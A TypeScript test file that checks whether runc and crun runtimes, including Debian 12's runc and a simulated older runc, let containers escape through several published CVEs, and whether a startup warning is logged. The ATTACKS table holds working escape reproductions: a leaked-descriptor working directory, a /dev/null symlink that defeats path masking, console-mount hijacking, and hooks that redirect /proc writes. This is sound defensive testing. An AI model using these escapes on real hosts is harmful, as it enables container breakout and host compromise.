import { execFileSync } from 'node:child_process'
import { closeSync, constants, mkdirSync, openSync, readSync, symlinkSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { RUNTIME_ADVISORIES } from '../../../src/oci/runtime-advisories.ts'
import { bind, type ContainerOptions } from '../../support/containers/container-requests.ts'
import type { Pod } from '../../support/containers/pod.ts'
import { type AgentPod, inNamespaceOf, startPod } from '../../support/host/agent-pod.ts'
import { bookwormRunc } from '../../support/host/bookworm-runc.ts'
import { realNative } from '../../support/os/real-native.ts'
import { temporaryFolder } from '../../support/temporary-folder.ts'

/**
 * Stands for a runc before 1.1.12, which Debian no longer has: the container's first process inherits a folder of the guest
 * and may have it as its working directory.
 */
const LEAKING_RUNC = `#!/bin/sh
exec 3< /
for word; do
  shift
  [ "$last" = --bundle ] && sed -i 's|"cwd":"/proc/self/fd/3"|"cwd":"/"|; s|"sh","-c","|&cd /proc/self/fd/3; |' "$word"/config.json
  set -- "$@" "$word"
  [ "$word" = create ] && set -- "$@" --preserve-fds 1
  last=$word
done
exec RUNC "$@"
`

async function leakingRunc(): Promise<string> {
  const path = join(temporaryFolder(), 'runc')
  writeFileSync(path, LEAKING_RUNC.replace('RUNC', await bookwormRunc()), { mode: 0o755 })
  return path
}

const LABEL = 'CVE-2025-52881, with the label of an LSM'
const IDS = [...RUNTIME_ADVISORIES.map(({ id }) => id), LABEL]
const OLDEST = 'CVE-2024-21626'
const NOVEMBER_2025 = ['CVE-2025-31133', 'CVE-2025-52565', 'CVE-2025-52881']
const OPEN_IN_DEBIAN_12 = [...NOVEMBER_2025, LABEL]
const WARNING = 'runtime has known break-outs'

interface Row {
  readonly path: () => Promise<string>
  readonly tried: readonly string[]
  readonly open: readonly string[]
}

describe.each<[string, Row]>([
  ["the image's runc", { path: async () => 'runc', tried: IDS, open: [] }],
  ["the image's crun", { path: async () => 'crun', tried: IDS, open: [] }],
  ["Debian 12's runc", { path: bookwormRunc, tried: IDS, open: OPEN_IN_DEBIAN_12 }],
  ['a stand-in for an older runc', { path: leakingRunc, tried: [OLDEST], open: [OLDEST] }],
])('%s', (_name, { path, tried, open }) => {
  let pod: AgentPod
  beforeAll(async () => {
    pod = await startPod({ runtime: await path() })
  })
  afterAll(() => pod?.stop())

  it.each(tried.map((id) => [open.includes(id) ? 'lets' : 'does not let', id]))(
    '%s a container out by %s',
    async (_lets, id) => {
      expect(await ATTACKS[id]?.(pod)).toBe(open.includes(id))
    },
  )

  if (open !== OPEN_IN_DEBIAN_12) return
  it('is warned of at the start', async () => {
    const advisories = NOVEMBER_2025.join(' ')
    const runtimeVersion = '1.1.5+ds1-1+deb12u1'
    const warning = pod.started.logged({ msg: WARNING, level: 'WARN', runtimeVersion, advisories })
    expect(await warning).toMatchObject({ advisories })
  })
})

/**
 * The attacks of the advisories; each resolves with whether the container broke out. Published attacks must win a race;
 * here everything is in place before the runtime looks.
 */
const ATTACKS: Readonly<Record<string, (pod: AgentPod) => Promise<boolean>>> = {
  'CVE-2024-21626': async (pod) => {
    // A folder of the guest has parents outside of the container's root.
    const script = 'cd -P ../../../../../../../../.. && [ . -ef / ] && echo inside || echo outside'
    for (let fd = 3; fd < 12; fd++)
      if ((await output(pod, script, { process: { Cwd: `/proc/self/fd/${fd}` } })) === 'outside\n')
        return true
    return false
  },

  'CVE-2025-31133': async (pod) => {
    const linked = temporaryFolder()
    symlinkSync('/proc/sys/kernel/domainname', join(linked, 'null'))
    // Without any /dev/null, nothing was masked.
    for (const dev of [linked, temporaryFolder()]) {
      const options = { mounts: [bind(dev, '/dev')], linux: { MaskedPaths: ['/proc/version'] } }
      const script = 'echo written > /proc/version; cat /proc/sys/kernel/domainname /proc/version'
      if (/written|Linux version/.test((await output(pod, script, options)) ?? '')) return true
    }
    return false
  },

  // Where the link leads to a file of /proc, it must be restored before the runtime opens the terminal. A link to another
  // terminal may stay.
  'CVE-2025-52565': async (pod) => {
    const native = await realNative()
    const { O_RDWR, O_NOCTTY, O_NONBLOCK } = constants
    const other = openSync('/dev/ptmx', O_RDWR | O_NOCTTY | O_NONBLOCK)
    try {
      const number = new Uint32Array(1)
      await native.ioctl(other, TIOCSPTLCK, new Uint8Array(number.buffer))
      await native.ioctl(other, TIOCGPTN, new Uint8Array(number.buffer))
      const dev = temporaryFolder()
      mkdirSync(join(dev, 'pts'))
      execFileSync('mknod', [join(dev, 'null'), 'c', '1', '3'])
      writeFileSync(join(dev, 'console'), '')
      symlinkSync('/terminals/ptmx', join(dev, 'ptmx'))
      symlinkSync('/terminals/ptmx', join(dev, 'pts/ptmx'))
      symlinkSync(`/others/${number[0]}`, join(dev, 'pts/0'))
      const terminals = {
        destination: '/terminals',
        type: 'devpts',
        source: 'devpts',
        options: ['newinstance', 'ptmxmode=0666'],
      }
      await output(pod, 'echo taken > /dev/console', {
        terminal: true,
        // The flaw: the console is mounted before anything is masked.
        linux: { MaskedPaths: ['/others'] },
        mounts: [terminals, bind('/dev/pts', '/others'), bind(dev, '/dev')],
      })
      return readNow(other) === 'taken\r\n'
    } finally {
      closeSync(other)
    }
  },

  'CVE-2025-52881': async (pod) => {
    // The hook mounts below the container's /proc, in place of an image that is faster than the runtime.
    const sys = `/run/kata-containers/${ID}/rootfs/proc/sys/kernel`
    const Args = ['sh', '-c', `mount --bind ${sys}/domainname ${sys}/msgmax`]
    const shown = await output(pod, 'cat /proc/sys/kernel/domainname', {
      spec: { Hooks: { CreateContainer: [{ Path: '/bin/sh', Args, Env: ['PATH=/bin:/usr/bin'] }] } },
      linux: { Sysctl: { 'kernel.msgmax': '4242' } },
    })
    return shown === '4242\n'
  },

  // This machine may have no LSM, so the runtime sees a pretended AppArmor with one profile. The kernel refuses the label
  // there (runc: EINVAL), unless the write is redirected. crun is refused earlier, when it reads its own label.
  [LABEL]: async (pod) => {
    inNamespaceOf(pod.started, 'sh', '-ec', PRETEND_APPARMOR)
    const proc = `/run/kata-containers/${ID}/rootfs/proc`
    const redirect = `for file in ${proc}/1/attr/exec ${proc}/1/task/*/attr/exec; do
      mount --bind ${proc}/sys/kernel/domainname $file
    done`
    const Args = ['sh', '-c', redirect]
    const shown = await output(pod, 'cat /proc/sys/kernel/domainname', {
      process: { ApparmorProfile: 'cage' },
      spec: { Hooks: { CreateContainer: [{ Path: '/bin/sh', Args, Env: ['PATH=/bin:/usr/bin'] }] } },
    })
    return shown === 'exec cage\n'
  },
}

const ID = 'attacker'

const PRETEND_APPARMOR = `
  mount -t tmpfs none /sys/kernel/security && mkdir /sys/kernel/security/apparmor
  echo 'cage (enforce)' > /sys/kernel/security/apparmor/profiles
  mount -t tmpfs none /sys/module && mkdir -p /sys/module/apparmor/parameters
  echo Y > /sys/module/apparmor/parameters/enabled
`

/** asm-generic/ioctls.h: the number of a terminal, and its lock. */
const TIOCGPTN = 0x80_04_54_30
const TIOCSPTLCK = 0x40_04_54_31

/** The output of a script in its own container; undefined when the runtime refuses the container. */
async function output(pod: Pod, script: string, options: ContainerOptions): Promise<string | undefined> {
  try {
    const init = await pod.run(ID, ['sh', '-c', script], options)
    const printed = await init.readAll()
    await init.wait()
    await pod.remove(ID)
    return printed.toString()
  } catch {
    await pod.remove(ID).catch(() => {})
    return undefined
  }
}

function readNow(fd: number): string {
  const buffer = Buffer.alloc(64)
  try {
    return buffer.toString('utf8', 0, readSync(fd, buffer))
  } catch {
    return ''
  }
}
